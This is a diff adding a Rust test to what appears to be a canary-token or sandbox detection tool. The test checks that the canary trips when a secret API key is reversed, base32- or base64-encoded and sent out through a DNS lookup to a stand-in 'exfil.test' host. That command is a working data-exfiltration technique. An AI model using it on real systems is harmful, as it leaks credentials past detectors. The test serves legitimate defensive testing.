@@ -525,3 +525,27 @@ exit 0"#;
         );
     }
 }
+
+/// The README: the token "raw or encoded (hex, base32, base64, also shifted by leading bytes
+/// or reversed ...)". The token reversed and then encoded in base32 or base64 tripped nothing
+/// (only hex of it, and each encoding's text reversed, were looked for).
+#[test]
+fn the_canary_trips_on_the_reversed_token_in_base32_and_base64() {
+    let w = World::new();
+    let policy = setup(&w);
+    for encode in ["b32encode", "urlsafe_b64encode"] {
+        let out = exec(
+            &w,
+            &policy,
+            &["--user", "nobody", "--canary"],
+            &format!(
+                "name=$(python3 -c 'import base64, os; \
+                 e = base64.{encode}(os.environ[\"CANARY_API_KEY\"][::-1].encode()).decode().rstrip(\"=\"); \
+                 print(e[:40] + \".\" + e[40:])'); \
+                 echo \"asked $name\"; dig +time=1 +tries=1 \"$name.exfil.test\" >/dev/null; exit 0"
+            ),
+        );
+        assert!(stdout_of(&out).contains("asked "), "{}", show(&out));
+        assert_eq!(out.status.code(), Some(99), "{encode}\n{}", show(&out));
+    }
+}
